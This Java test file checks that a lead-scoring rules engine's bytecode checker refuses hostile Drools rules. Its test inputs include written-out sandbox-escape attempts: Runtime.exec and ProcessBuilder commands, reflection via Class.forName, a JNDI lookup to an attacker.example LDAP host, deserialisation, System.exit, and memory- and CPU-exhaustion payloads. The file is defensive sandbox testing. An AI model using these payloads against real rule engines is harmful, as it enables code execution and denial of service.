package io.leadrules.rules.engine;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.catchThrowable;

import io.leadrules.rules.evaluation.EvaluationInput;
import io.leadrules.rules.evaluation.FiredRule;
import io.leadrules.rules.vocabulary.Lead;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * Attacks that the bytecode check alone must refuse: each rule set skips the checks on its DRL text (the units go
 * straight to the build, through the package-private seam of {@link RuleSetCompiler}), so only what the rules
 * compiled to is judged. A refused set never reaches a container: nothing in it is ever loaded, let alone run.
 */
class HostileBytecodeTest {

    private static final int RULE_LINE = 4;

    @TempDir
    Path temp;

    @Test
    void runtimeExecIsRefusedAtTheRule() {
        assertThat(problemsOf(drl("Lead()", "Runtime.getRuntime().exec(\"touch " + marker() + "\");")))
                .contains(atRule("calls java.lang.Runtime.getRuntime: not allowed in rules"))
                .contains(atRule("calls java.lang.Runtime.exec: not allowed in rules"));
        assertThat(marker()).doesNotExist();
    }

    @Test
    void aNewProcessBuilderIsRefused() {
        assertThat(messagesOf("new ProcessBuilder(\"touch\", \"" + marker() + "\").start();"))
                .contains("rule 'FIT-HOSTILE' calls java.lang.ProcessBuilder.<init>: not allowed in rules, which may "
                        + "only use the fact vocabulary, text, numbers, dates and lists");
        assertThat(marker()).doesNotExist();
    }

    @Test
    void aRuleCannotForgeTheFactsTheEngineInserts() {
        assertThat(messagesOf("insert(new Lead(null, \"Eve\", null, \"eve@acme.com\", null, null, \"CEO\", null, null, null, "
                + "null, null, null, null, null));"))
                .anyMatch(m -> m.contains("calls io.leadrules.rules.vocabulary.Lead.<init>"));
        assertThat(messagesOf("insert(new AsOf(java.time.Instant.EPOCH));"))
                .anyMatch(m -> m.contains("calls io.leadrules.rules.vocabulary.AsOf.<init>"));
    }

    @Test
    void bigNumberArithmeticIsRefused() {
        assertThat(messagesOf("Object big = java.math.BigDecimal.TEN.pow(300000000);"))
                .anyMatch(m -> m.contains("calls java.math.BigDecimal.pow"));
        assertThat(messagesOf("long n = new java.math.BigDecimal(\"1E999999999\").longValue();"))
                .anyMatch(m -> m.contains("calls java.math.BigDecimal.longValue"));
    }

    @Test
    void theClockAndChanceAreRefused() {
        assertThat(messagesOf("Object now = java.time.Instant.now();"))
                .anyMatch(m -> m.contains("calls java.time.Instant.now"));
        assertThat(messagesOf("Object today = java.time.LocalDate.now();"))
                .anyMatch(m -> m.contains("calls java.time.LocalDate.now"));
        assertThat(messagesOf("double dice = Math.random();"))
                .anyMatch(m -> m.contains("calls java.lang.Math.random"));
    }

    @Test
    void textThatCanFeedItselfIsRefused() {
        assertThat(messagesOf("String s = $lead.email().concat($lead.email());"))
                .anyMatch(m -> m.contains("calls java.lang.String.concat"));
        assertThat(messagesOf("String s = \"aaaa\".replace(\"a\", $lead.email());"))
                .anyMatch(m -> m.contains("calls java.lang.String.replace"));
        assertThat(messagesOf("String s = new StringBuilder().append($lead.email()).toString();"))
                .anyMatch(m -> m.contains("java.lang.StringBuilder"));
        String doublings = "String s = $lead.email();\n" + "        s = s + s;\n".repeat(9)
                + "        insert(new Finding(\"A\", \"x\", Severity.INFO, s, drools.getRule().getName()));";
        assertThat(messagesOf(doublings)).anyMatch(m -> m.contains("text built from more than 16 values"));
    }

    @Test
    void systemExitIsRefused() {
        assertThat(messagesOf("System.exit(42);")).anyMatch(m -> m.contains("calls java.lang.System.exit"));
    }

    @Test
    void anXmlDecoderNamedOverTwoLinesIsRefused() {
        assertThat(messagesOf("new java\n        .beans.XMLDecoder((java.io.InputStream) null).readObject();"))
                .anyMatch(m -> m.contains("calls java.beans.XMLDecoder.<init>"));
    }

    @Test
    void classForNameIsRefusedWhateverItsArgument() {
        assertThat(messagesOf("Class.forName(\"java.lang.Run\" + \"time\");"))
                .anyMatch(m -> m.contains("calls java.lang.Class.forName"));
    }

    @Test
    void reflectionThroughGetClassIsRefused() {
        assertThat(messagesOf("$lead.getClass().getClassLoader().loadClass(\"java.lang.Runtime\");"))
                .anyMatch(m -> m.contains("calls java.lang.Object.getClass"))
                .anyMatch(m -> m.contains("calls java.lang.Class.getClassLoader"));
    }

    @Test
    void getClassInAConstraintIsRefused() {
        assertThat(problemsOf(drl("Lead( this.getClass().getName() != null )", "")))
                .anyMatch(p -> p.line() == RULE_LINE && p.message().contains("calls java.lang.Object.getClass"));
    }

    @Test
    void methodHandlesAreRefused() {
        assertThat(messagesOf("java.lang.invoke.MethodHandles.lookup();"))
                .anyMatch(m -> m.contains("calls java.lang.invoke.MethodHandles.lookup"));
    }

    @Test
    void aScriptEngineIsRefused() {
        assertThat(messagesOf("new javax.script.ScriptEngineManager().getEngineByName(\"js\");"))
                .anyMatch(m -> m.contains("calls javax.script.ScriptEngineManager.<init>"));
    }

    @Test
    void aJndiLookupIsRefused() {
        assertThat(messagesOf("new javax.naming.InitialContext().lookup(\"ldap://attacker.example/x\");"))
                .anyMatch(m -> m.contains("calls javax.naming.InitialContext.<init>"));
    }

    @Test
    void unsafeIsRefusedEvenAsAClassLiteral() {
        assertThat(messagesOf("insert(sun.misc.Unsafe.class);"))
                .anyMatch(m -> m.contains("uses the class sun.misc.Unsafe"));
    }

    @Test
    void deserialisationIsRefused() {
        assertThat(messagesOf("new java.io.ObjectInputStream(null).readObject();"))
                .anyMatch(m -> m.contains("calls java.io.ObjectInputStream.<init>"));
    }

    @Test
    void sleepingIsRefused() {
        assertThat(messagesOf("Thread.sleep(15000);")).anyMatch(m -> m.contains("calls java.lang.Thread.sleep"));
    }

    @Test
    void repeatingAStringIsRefused() {
        assertThat(messagesOf("String s = \"x\".repeat(1000000000);"))
                .anyMatch(m -> m.contains("calls java.lang.String.repeat"));
    }

    @Test
    void aUnicodeEscapedSystemExitIsRefused() {
        assertThat(messagesOf("\\u0053ystem.exit(1);")).anyMatch(m -> m.contains("calls java.lang.System.exit"));
    }

    @Test
    void readingSystemOutIsRefused() {
        assertThat(messagesOf("System.out.println(\"hello\");"))
                .anyMatch(m -> m.contains("reads java.lang.System.out"));
    }

    @Test
    void aLoopInAConsequenceIsRefused() {
        assertThat(messagesOf("for (int i = 0; i < 10; i++) { insert(new FitScore(i, \"x\")); }"))
                .anyMatch(m -> m.contains("uses a loop"));
    }

    @Test
    void anArrayInAConsequenceIsRefused() {
        assertThat(messagesOf("long[] memory = new long[Integer.MAX_VALUE - 8];"))
                .anyMatch(m -> m.contains("uses an array"));
    }

    @Test
    void aSynchronizedBlockIsRefused() {
        assertThat(messagesOf("synchronized (\"lock\") { insert(new FitScore(1, \"x\")); }"))
                .anyMatch(m -> m.contains("uses a synchronized block"));
    }

    @Test
    void aDangerousCallInOneRuleIsReportedAtThatRuleOnly() {
        String drl = """
                package leadrules.fit;
                import io.leadrules.rules.vocabulary.*;

                rule "FIT-HARMLESS A harmless rule"
                when
                    Lead()
                then
                    insert(new FitScore(1, drools.getRule().getName()));
                end

                rule "FIT-EXIT A rule that stops the service"
                when
                    Lead()
                then
                    System.exit(3);
                end
                """;
        assertThat(problemsOf(drl)).singleElement().satisfies(p -> {
            assertThat(p.file()).isEqualTo("Hostile.drl");
            assertThat(p.line()).isEqualTo(11);
            assertThat(p.message()).startsWith("rule 'FIT-EXIT' calls java.lang.System.exit");
        });
    }

    @Test
    void codeInADecisionTablesActionSnippetIsReportedAtTheRowsRuleIdCell() {
        // a developer table (a package no shipped kind lives in): its technical rows are not held to a template
        RuleFile table = new RuleFile("ProfileFit.drl.xlsx", new TableWorkbook().sheet("Role", "leadrules.custom", "fit",
                new String[] {"NAME", "CONDITION", "ACTION", "METADATA"},
                new String[] {"", "l : Lead", "", ""},
                new String[] {"", "Text.containsAnyWord(jobTitle, \"$param\")",
                        "insert(new FitMatch(\"ROLE\", $param, drools.getRule().getName())); System.exit(1);",
                        "reason(\"$param\")"},
                new String[] {"Rule ID", "Job title contains any of", "Match (0-100)", "Reason"},
                new Object[] {"FIT-ROLE-DIRECTOR", "director", 80, "Directors decide"}).bytes());
        List<CompileProblem> translationProblems = new ArrayList<>();
        List<DrlUnit> units = SpreadsheetTranslation.translate(table, translationProblems, new ArrayList<>());
        assertThat(translationProblems).isEmpty();

        Throwable thrown = catchThrowable(
                () -> new RuleSetCompiler().compile("hostile", List.of(table), units, true).close());

        assertThat(thrown).isInstanceOf(RuleSetCompilationException.class);
        assertThat(((RuleSetCompilationException) thrown).problems()).containsExactly(CompileProblem.inCell(
                "ProfileFit.drl.xlsx", "Role", "B11", "rule 'FIT-ROLE-DIRECTOR' calls java.lang.System.exit: not "
                        + "allowed in rules, which may only use the fact vocabulary, text, numbers, dates and lists"));
    }

    @Test
    void allowedCallsStillCompileAndRun() {
        String drl = drl("$lead : Lead( company != null, company.trim().length() > 1 )", """
                insert(new FitScore(String.valueOf(42).length() + Math.max(1, 2) + Integer.parseInt("3"),
                        drools.getRule().getName()));""");
        try (CompiledRuleSet rules = compile(drl, true)) {
            Lead lead = new Lead(null, "Ana", "Garcia", "ana@acme.com", null, "Acme", "CTO", null, null, null, null,
                    null, null, null, null);
            assertThat(rules.evaluate(new EvaluationInput(lead, List.of(), Instant.EPOCH)).firedRules())
                    .extracting(FiredRule::ruleId).containsExactly("FIT-HOSTILE");
        }
    }

    /**
     * In a package of more than 999 rules, Drools' own generated classes use {@code RulesSupplier} (they split the rule
     * list), and the check allows it there. A rule's own code calling it, to run rule-list code on the common pool,
     * is still refused at the rule: the allowance is for the generated classes, not for any class of that package.
     */
    @Test
    void aRuleCannotCallTheRulesSupplierThatLargePackagesAreAllowed() {
        StringBuilder drl = new StringBuilder(drl("$lead : Lead()",
                "java.util.List<?> all = org.drools.model.RulesSupplier.getRules();"));
        for (int n = 1; n <= 1_050; n++) {
            drl.append("rule \"FIT-FILL-").append(n).append(" Filler\"\nwhen\n    Lead(companySize == ").append(n)
                    .append(")\nthen\nend\n");
        }

        assertThat(messagesOf(drl.toString())).contains("rule 'FIT-HOSTILE' calls "
                + "org.drools.model.RulesSupplier.getRules: not allowed in rules, which may only use the fact "
                + "vocabulary, text, numbers, dates and lists");
    }

    private Path marker() {
        return temp.resolve("pwned");
    }

    private static CompileProblem atRule(String messageStart) {
        return CompileProblem.atLine("Hostile.drl", RULE_LINE, "rule 'FIT-HOSTILE' " + messageStart
                + ", which may only use the fact vocabulary, text, numbers, dates and lists");
    }

    private List<String> messagesOf(String consequence) {
        List<CompileProblem> problems = problemsOf(consequence.startsWith("package") ? consequence
                : drl("$lead : Lead()", consequence));
        assertThat(problems).allSatisfy(p -> {
            assertThat(p.file()).isEqualTo("Hostile.drl");
            assertThat(p.line()).isEqualTo(RULE_LINE);
        });
        return problems.stream().map(CompileProblem::message).toList();
    }

    private List<CompileProblem> problemsOf(String drl) {
        try (CompiledRuleSet compiled = compile(drl, true)) {
            throw new AssertionError("expected the bytecode check to refuse the rule set: " + compiled.version());
        } catch (RuleSetCompilationException e) {
            return e.problems();
        }
    }

    static String drl(String when, String then) {
        return """
                package leadrules.fit;
                import io.leadrules.rules.vocabulary.*;

                rule "FIT-HOSTILE A rule that tries something"
                when
                    %s
                then
                    %s
                end
                """.formatted(when, then);
    }

    /** Compiles the DRL with no check on its text: only the bytecode check (if asked) and the class wall stand. */
    static CompiledRuleSet compile(String drl, boolean checkBytecode) {
        RuleFile file = new RuleFile("Hostile.drl", drl.getBytes(StandardCharsets.UTF_8));
        return new RuleSetCompiler().compile("hostile", List.of(file), List.of(DrlUnit.ofDrl(file, drl)),
                checkBytecode);
    }
}
